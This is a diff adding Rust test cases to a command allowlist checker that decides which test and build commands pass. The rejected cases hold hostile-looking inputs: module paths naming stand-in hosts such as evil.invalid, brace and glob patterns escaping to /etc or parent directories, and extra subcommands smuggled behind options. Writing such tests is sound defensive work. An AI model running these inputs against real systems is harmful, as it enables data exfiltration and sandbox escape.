@@ -104,6 +104,16 @@ fn whole_words_admit_further_words_and_only_options_of_the_table() {
         ("npx tsc …", "npx tsc --noEmit --pretty false"),
         ("swift test …", "swift test -c release --filter A"),
         ("npm test …", "npm test -- -t 'adds a user' --grep login"),
+        ("npm test …", "npm test -- login src/init.test.ts"),
+        ("npx vitest run …", "npx vitest run init"),
+        ("npx mocha …", "npx mocha 'test/**/*.{spec,test}.js' '{src,lib}/*.js'"),
+        ("npx eslint …", "npx eslint 'src/**/*.{ts,tsx}' 'test/**/*.@(spec|test).js'"),
+        ("pytest …", "pytest 'tests/a.py::test_b[1.5-(x)]' 'tests/.*'"),
+        ("go test …", "go test ./... ../pkg/... std cmd/vet"),
+        ("go vet …", "go vet main.go"),
+        ("go list …", "go list -json -f '{{.Dir}}' ./..."),
+        ("go list -m …", "go list -m -json"),
+        ("go list -m all …", "go list -m all -json"),
     ] {
         assert!(
             admits(allowed, command),
@@ -201,6 +211,38 @@ fn whole_words_admit_further_words_and_only_options_of_the_table() {
         ("go test …", "go test -vet off"),
         ("npm test …", "npm test -- --grep https://x"),
         ("npx tsc …", "npx tsc --pretty other.ts"),
+        // A host that a package names.
+        ("go list …", "go list -m evil.invalid/SECRET@latest"),
+        ("go list …", "go list -json -m evil.invalid/x"),
+        ("go list …", "go list -m all"),
+        ("go list -m …", "go list -m evil.invalid/x"),
+        ("go list -m all …", "go list -m all evil.invalid/x@v1"),
+        ("go list …", "go list evil.invalid/x"),
+        ("go test …", "go test evil.invalid/x/..."),
+        ("go build …", "go build ./x@latest"),
+        ("deno test …", "deno test NPM:evil"),
+        ("deno test …", "deno test HTTPS:evil.example/x.ts"),
+        ("deno test …", "deno test file:/elsewhere/x.ts"),
+        // Another command of the same program, behind options.
+        ("npx mocha …", "npx mocha -b init out"),
+        ("npx mocha …", "npx mocha --timeout=5 init out"),
+        ("npm test …", "npm test -- init out"),
+        ("npm run check …", "npm run check -- --bail init out"),
+        ("pnpm test …", "pnpm test --bail init out"),
+        ("npx vitest …", "npx vitest --bail=1 init browser"),
+        ("vitest …", "vitest --run init"),
+        // Patterns of which a part leads elsewhere.
+        ("npx mocha …", "npx mocha '{a..b}/*.js'"),
+        ("npx mocha …", "npx mocha '{{..,a},b}/*.js'"),
+        ("npx mocha …", "npx mocha '@(..|test)/*.js'"),
+        ("npx mocha …", "npx mocha '+(.)/x.js'"),
+        ("npx mocha …", "npx mocha '@(/etc|test)/*.js'"),
+        ("npx mocha …", "npx mocha '[.]./out/*.js'"),
+        ("npx mocha …", "npx mocha 'test/.[.-.]/.[.]/out/*.js'"),
+        ("npx mocha …", "npx mocha '{.,x}[.]/out/*.js'"),
+        ("npx prettier …", "npx prettier --check '.\\./out/a.js'"),
+        ("npx mocha …", "npx mocha '{npm,x}:evil'"),
+        ("npx mocha …", "npx mocha '{,a}{,b}{,c}{,d}{,e}{,f}{,g}'"),
         // What else a runner runs.
         ("cmake --build build …", "cmake --build build --target deploy"),
         ("cmake --build build …", "cmake --build build --target=install/strip"),
@@ -224,6 +266,10 @@ fn whole_words_admit_further_words_and_only_options_of_the_table() {
 fn every_word_that_may_be_a_path_is_told() {
     let paths = |allowed: &str, command: &str| table().admits(&trusted(allowed), &words(command)).unwrap();
     assert_eq!(paths("pytest …", "pytest -k name ../x tests/a.py"), ["../x", "tests/a.py"]);
+    let braces = |word: &str| paths("npx mocha …", &format!("npx mocha '{word}'"));
+    assert_eq!(braces("{/etc,test}/*.js"), ["{/etc,test}/*.js", "/etc/*.js", "test/*.js"]);
+    assert!(braces("{.,x}./out/{a,b}.js").contains(&"../out/b.js".to_owned()));
+    assert!(braces("{,x}/etc/*").contains(&"/etc/*".to_owned()));
     assert_eq!(paths("npx tsc …", "npx tsc --pretty=true"), [""; 0]);
     assert_eq!(paths("pytest …", "pytest --cov=/etc/x"), ["/etc/x"]);
     assert!(paths("make -C /etc test", "make -C /etc test").contains(&"/etc".to_owned()));
